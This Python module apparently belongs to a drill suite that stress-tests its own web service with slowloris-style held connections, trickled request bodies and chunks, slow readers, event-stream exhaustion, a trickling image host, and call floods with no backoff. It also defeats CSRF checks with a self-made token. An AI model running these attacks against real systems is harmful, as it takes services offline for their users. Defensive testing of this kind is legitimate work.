"""Attacks that cost the attacker next to nothing: connections that are held, answers that trickle."""

from __future__ import annotations

import asyncio
import json
import socket

from drills.attacks.line import Aim, ask_json, hammer, head

HELD = 64
STREAMS = 600
SIGN_IN = "/_allauth/browser/v1/auth/login"
# Against forgery an attacker makes their own token: what comes without one is refused unread.
TOKEN = "x" * 32
OWN = {
    "Content_Type": "application/json",
    "Cookie": f"csrftoken={TOKEN}",
    "X_CSRFToken": TOKEN,
}
BYTE_EVERY_S = 1.0
THREADS, PICTURES = 8, 200


async def slow_body(aim: Aim) -> None:
    """Bodies for the sign-in, a byte a second."""
    said = head("POST", SIGN_IN, aim.line().netloc, length=600, **OWN)
    await _hold(aim, said, HELD)


async def slow_headers(aim: Aim) -> None:
    """Requests that never come to the end of their headers."""
    await _hold(aim, b"GET / HTTP/1.1\r\nX-Slow: ", HELD * 2)


async def slow_chunks(aim: Aim) -> None:
    """Bodies without a length, of chunks of one byte."""
    own = {"Transfer_Encoding": "chunked", **OWN}
    said = head("POST", SIGN_IN, aim.line().netloc, length=0, **own)
    await _hold(aim, said, HELD, drop=b"1\r\na\r\n")


async def slow_readers(aim: Aim) -> None:
    """Large answers, read a byte a second."""

    async def one(number: int) -> None:
        line = aim.line(number)
        path = f"{aim.base}/carousels/{aim.facts['draft']}"
        while True:
            try:
                _, writer = await line.open()
                sock: socket.socket = writer.get_extra_info("socket")
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4_096)
                writer.write(head("GET", path, line.netloc, length=0, **aim.entitled))
                writer.transport.pause_reading()  # type: ignore[attr-defined]  # asyncio's transports have it
                while not writer.is_closing():
                    await asyncio.sleep(BYTE_EVERY_S * 10)
            except OSError as end:
                aim.answers[type(end).__name__] += 1
                await asyncio.sleep(BYTE_EVERY_S)

    aim.begun.set()
    await asyncio.gather(*(one(number) for number in range(HELD)))


async def _hold(aim: Aim, said: bytes, times: int, drop: bytes = b"a") -> None:
    """Hold connections open that say ``said`` and then, drop by drop, no end; each anew when it is ended."""

    async def one(number: int) -> None:
        line = aim.line(number)
        while True:
            try:
                reader, writer = await line.open()
                writer.write(said)
                while not reader.at_eof() and not writer.is_closing():
                    writer.write(drop)
                    await writer.drain()
                    await asyncio.sleep(BYTE_EVERY_S)
                aim.answers["ended"] += 1
            except OSError as end:
                aim.answers[type(end).__name__] += 1
                await asyncio.sleep(BYTE_EVERY_S)

    asyncio.get_running_loop().call_later(3.0, aim.begun.set)
    await asyncio.gather(*(one(number) for number in range(times)))


async def streams(aim: Aim) -> None:
    """Event streams of one render, more than one agency may hold."""

    async def one(number: int) -> None:
        line, own = aim.line(number), aim.line(number)
        while True:
            status, got = await ask_json(aim, own, "POST", f"renders/{aim.facts['render']}/events")
            if status >= 400:
                aim.answers[str(status)] += 1
                await asyncio.sleep(1)
                continue
            own.close()
            try:
                line = type(line)(aim.events, "127.66.0.1")
                reader, writer = await line.open()
                place = got["url"].removeprefix(aim.events)
                writer.write(head("GET", place, line.netloc, length=0))
                status = int((await reader.readuntil(b"\r\n")).split(b" ")[1])
                aim.answers[str(status)] += 1
                while status == 200 and await reader.read(4_096):
                    pass
            except (OSError, asyncio.IncompleteReadError) as end:
                aim.answers[type(end).__name__] += 1
            await asyncio.sleep(1)

    asyncio.get_running_loop().call_later(5.0, aim.begun.set)
    await asyncio.gather(*(one(number) for number in range(STREAMS)))


async def slow_host(aim: Aim) -> None:
    """Threads that name hundreds of pictures on a host that sends a byte now and then."""

    async def trickle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        aim.answers["pictures asked for"] += 1
        try:
            await reader.readuntil(b"\r\n\r\n")
            writer.write(
                b"HTTP/1.1 200 OK\r\nContent-Type: image/jpeg\r\nContent-Length: 900000\r\n\r\n"
            )
            while not writer.is_closing():
                writer.write(b"\xff")
                await writer.drain()
                await asyncio.sleep(BYTE_EVERY_S * 2)
        except (OSError, asyncio.IncompleteReadError):
            pass
        finally:
            writer.close()

    await asyncio.start_server(trickle, "127.0.0.1", aim.port)
    line = aim.line()
    for number in range(THREADS):
        pictures = [
            {
                "id": str(at),
                "type": "image",
                "url": f"http://127.0.0.1:{aim.port}/{number}/{at}.jpg",
            }
            for at in range(PICTURES)
        ]
        account = {"id": "1", "acct": "ines", "username": "ines", "display_name": "Ines"}
        statuses = [
            {
                "id": str(at + 1),
                "account": account,
                "content": f"<p>Status {at} of a thread with pictures.</p>",
                "created_at": "2026-03-01T10:00:00.000Z",
                "in_reply_to_id": str(at) if at else None,
                "in_reply_to_account_id": "1" if at else None,
                "media_attachments": pictures[at * 4 : at * 4 + 4],
                "url": f"https://social.example/@ines/{at}",
                "uri": f"https://social.example/users/ines/statuses/{at}",
            }
            for at in range(PICTURES // 4)
        ]
        text = json.dumps({"ancestors": statuses[:1], "descendants": statuses[1:]})
        wanted = {"client": aim.facts["client"], "text": text}
        status, _ = await ask_json(aim, line, "POST", "threads", wanted)
        aim.answers[str(status)] += 1
    aim.begun.set()
    await asyncio.Event().wait()


async def polls(aim: Aim) -> None:
    """One render with many files, asked after again and again."""
    await hammer(
        aim,
        16,
        lambda line, _: _status(aim, line, "GET", f"renders/{aim.facts['render']}"),
    )


async def calls(aim: Aim) -> None:
    """As many calls as come through, by one key, and no pause when they are refused."""
    await hammer(aim, 64, lambda line, _: _status(aim, line, "GET", "clients"), mercy=0.0)


async def _status(aim: Aim, line: object, method: str, path: str) -> int:
    status, _ = await ask_json(aim, line, method, path)  # type: ignore[arg-type]
    return status
